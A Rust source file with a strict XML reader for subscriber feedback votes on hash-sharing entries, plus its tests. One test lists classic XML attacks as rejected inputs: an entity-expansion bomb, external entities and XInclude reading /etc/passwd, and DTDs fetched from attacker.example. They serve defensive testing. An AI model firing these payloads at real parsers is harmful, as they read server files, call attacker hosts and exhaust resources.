//! Reads a vote. What an attacker would want of an XML reader is not there: document types, entities, processing
//! instructions and whatever the form does not have end the reading.

use quick_xml::{
    NsReader, XmlVersion,
    events::{BytesStart, Event},
};

use super::super::reasons::REASONS;
use crate::{body::wrong, problem::Problem};

/// More reasons than there are to give.
const MOST_REASONS: usize = 16;

/// What a subscriber says of an entry.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Vote {
    For,
    /// With one of [`domain::feedback::Verdict::reasons`].
    Against(&'static str),
}

/// Where in the form the reader is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    Start,
    Submission,
    Affirmative,
    Negative,
    Reasons,
    Guid,
    End,
}

impl Place {
    /// Where an element leads.
    fn enter(self, name: &str) -> Option<Self> {
        match (self, name) {
            (Self::Start, "feedbackSubmission") => Some(Self::Submission),
            (Self::Submission, "affirmative") => Some(Self::Affirmative),
            (Self::Submission, "negative") => Some(Self::Negative),
            (Self::Negative, "reasonIds") => Some(Self::Reasons),
            (Self::Reasons, "guid") => Some(Self::Guid),
            _ => None,
        }
    }

    const fn leave(self) -> Self {
        match self {
            Self::Guid => Self::Reasons,
            Self::Reasons => Self::Negative,
            Self::Negative | Self::Affirmative => Self::Submission,
            Self::Submission | Self::Start | Self::End => Self::End,
        }
    }
}

#[derive(Default)]
struct Form {
    affirmative: usize,
    negative: usize,
    guids: Vec<String>,
}

impl Form {
    fn note(&mut self, place: Place) {
        match place {
            Place::Affirmative => self.affirmative += 1,
            Place::Negative => self.negative += 1,
            Place::Guid => self.guids.push(String::new()),
            _ => {}
        }
    }

    fn vote(self) -> Result<Vote, Problem> {
        match (self.affirmative, self.negative) {
            (1, 0) => Ok(Vote::For),
            (0, 1) => {
                let mut reasons = Vec::new();
                for guid in &self.guids {
                    let known = REASONS
                        .iter()
                        .find(|reason| reason.guid.eq_ignore_ascii_case(guid.trim()));
                    reasons.push(known.ok_or_else(|| wrong("guid", "is not one of the reasons"))?);
                }
                let first = reasons
                    .first()
                    .ok_or_else(|| wrong("reasonIds", "must hold a guid"))?;
                Ok(Vote::Against(first.code))
            }
            _ => Err(wrong(
                "feedbackSubmission",
                "must hold either affirmative or negative, once",
            )),
        }
    }
}

impl Vote {
    /// Reads a `feedbackSubmission`.
    pub(super) fn read(body: &[u8]) -> Result<Self, Problem> {
        let text = std::str::from_utf8(body).map_err(|_| wrong("body", "must be UTF-8"))?;
        let mut reader = NsReader::from_str(text);
        let (mut place, mut form) = (Place::Start, Form::default());
        loop {
            let event = reader
                .read_event()
                .map_err(|_| wrong("body", "is not well-formed XML"))?;
            match event {
                Event::Start(element) => {
                    place = entered(place, &element)?;
                    form.note(place);
                }
                Event::Empty(element) => {
                    let inner = entered(place, &element)?;
                    form.note(inner);
                    place = inner.leave();
                }
                Event::End(_) => place = place.leave(),
                Event::Text(text) => {
                    let text = text.xml_content(XmlVersion::Explicit1_0);
                    match form.guids.last_mut().filter(|_| place == Place::Guid) {
                        Some(guid) => guid.push_str(&text),
                        None if text.trim().is_empty() => {}
                        None => return Err(wrong("body", "has text where there is none to be")),
                    }
                }
                Event::Eof if place == Place::End => return form.vote(),
                Event::Eof => return Err(wrong("body", "ends too early")),
                Event::Decl(_) | Event::Comment(_) => {}
                Event::DocType(_) => return Err(wrong("body", "must not have a document type")),
                _ => return Err(wrong("body", "must hold only elements and text")),
            }
            if form.guids.len() > MOST_REASONS {
                return Err(wrong("reasonIds", "holds too many"));
            }
        }
    }
}

fn entered(place: Place, element: &BytesStart<'_>) -> Result<Place, Problem> {
    let name = element.local_name();
    place.enter(name.as_ref()).ok_or_else(|| {
        wrong(
            "body",
            "has an element that a feedbackSubmission has not, or not there",
        )
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const FOR: &str = r#"<feedbackSubmission xmlns="https://hashsharing.ncmec.org/hashsharing/v2"><affirmative /></feedbackSubmission>"#;

    fn against(guids: &str) -> String {
        format!(
            "<feedbackSubmission xmlns=\"https://hashsharing.ncmec.org/hashsharing/v2\"><negative><reasonIds>{guids}\
             </reasonIds></negative></feedbackSubmission>"
        )
    }

    fn blamed(body: &[u8]) -> String {
        match Vote::read(body) {
            Err(Problem::InvalidBody(errors)) => format!("{} {}", errors[0].field, errors[0].detail),
            other => format!("{other:?}"),
        }
    }

    #[test]
    fn votes_are_read_as_the_public_client_writes_them() {
        assert_eq!(Vote::read(FOR.as_bytes()), Ok(Vote::For));
        let guid = format!("<guid>{}</guid>", REASONS[1].guid);
        assert_eq!(
            Vote::read(against(&guid).as_bytes()),
            Ok(Vote::Against("public-content"))
        );
        let shouted = format!("<guid>{}</guid>", REASONS[1].guid.to_uppercase());
        assert_eq!(
            Vote::read(against(&shouted).as_bytes()),
            Ok(Vote::Against("public-content"))
        );
    }

    #[test]
    fn prefixes_comments_and_white_space_change_nothing() {
        let body = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- yes -->\n<n:feedbackSubmission \
                    xmlns:n=\"https://hashsharing.ncmec.org/hashsharing/v2\">\n  <n:affirmative/>\n</n:feedbackSubmission>\n";
        assert_eq!(Vote::read(body.as_bytes()), Ok(Vote::For));
    }

    /// What has been tried on XML readers, each with the word that the answer has to have.
    #[test]
    fn attacks_end_the_reading() {
        let bomb =
            "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>";
        let external = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
        let remote = "<!DOCTYPE r SYSTEM \"http://attacker.example/evil.dtd\">";
        let parameter = "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/\"> %p;]>";
        let guid = REASONS[0].guid;
        let deep = format!("{}{}", "<a>".repeat(50_000), "</a>".repeat(50_000));
        let wide = format!("<guid>{guid}</guid>").repeat(10_000);
        let attributes = format!("<feedbackSubmission {}/>", "a=\"1\" ".repeat(10_000));
        for (what, body, word) in [
            ("entity bomb", format!("{bomb}{FOR}"), "document type"),
            ("external entity", format!("{external}{FOR}"), "document type"),
            ("remote type", format!("{remote}{FOR}"), "document type"),
            ("parameter entity", format!("{parameter}{FOR}"), "document type"),
            ("entity in a reason", against("<guid>&x;</guid>"), "only elements"),
            (
                "character reference",
                against("<guid>&#x35;</guid>"),
                "only elements",
            ),
            ("instruction", format!("<?php echo 1 ?>{FOR}"), "only elements"),
            (
                "characters as they are",
                against("<guid><![CDATA[x]]></guid>"),
                "only elements",
            ),
            (
                "inclusion",
                against(
                    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
                ),
                "element",
            ),
            ("depth", deep, "element"),
            ("width", against(&wide), "too many"),
            ("attributes", attributes, "affirmative or negative"),
            ("two roots", format!("{FOR}{FOR}"), "element"),
            (
                "both votes",
                FOR.replace("<affirmative />", "<affirmative/><negative/>"),
                "once",
            ),
            (
                "a vote twice",
                FOR.replace("<affirmative />", "<affirmative/><affirmative/>"),
                "once",
            ),
            ("no vote", FOR.replace("<affirmative />", ""), "once"),
            ("no reason", against(""), "must hold a guid"),
            (
                "unknown reason",
                against("<guid>1234</guid>"),
                "not one of the reasons",
            ),
            (
                "text",
                FOR.replace("<affirmative />", "yes<affirmative/>"),
                "text",
            ),
            ("cut off", FOR[..FOR.len() - 5].to_owned(), "body"),
            (
                "wrong end",
                FOR.replace("</feedbackSubmission>", "</other>"),
                "well-formed",
            ),
            ("nothing", String::new(), "too early"),
            ("JSON", "{\"affirmative\":true}".to_owned(), "text"),
            ("UTF-16", "\u{feff}".to_owned() + "<a/>", "has"),
        ] {
            let blamed = blamed(body.as_bytes());
            assert!(blamed.contains(word), "{what}: {blamed}");
        }
        assert_eq!(blamed(b"\xff\xfe<\0a\0"), "body must be UTF-8");
    }

    proptest! {
        #[test]
        fn no_bytes_make_reading_panic(body in proptest::collection::vec(any::<u8>(), 0..200)) {
            let _ = Vote::read(&body);
        }

        #[test]
        fn no_spoilt_vote_makes_reading_panic(place in 0_usize..100, with in "[<>&;!\\[\\]a-z ]{0,6}") {
            let mut body = FOR.to_owned();
            body.replace_range(place..=place, &with);
            let _ = Vote::read(body.as_bytes());
        }
    }
}
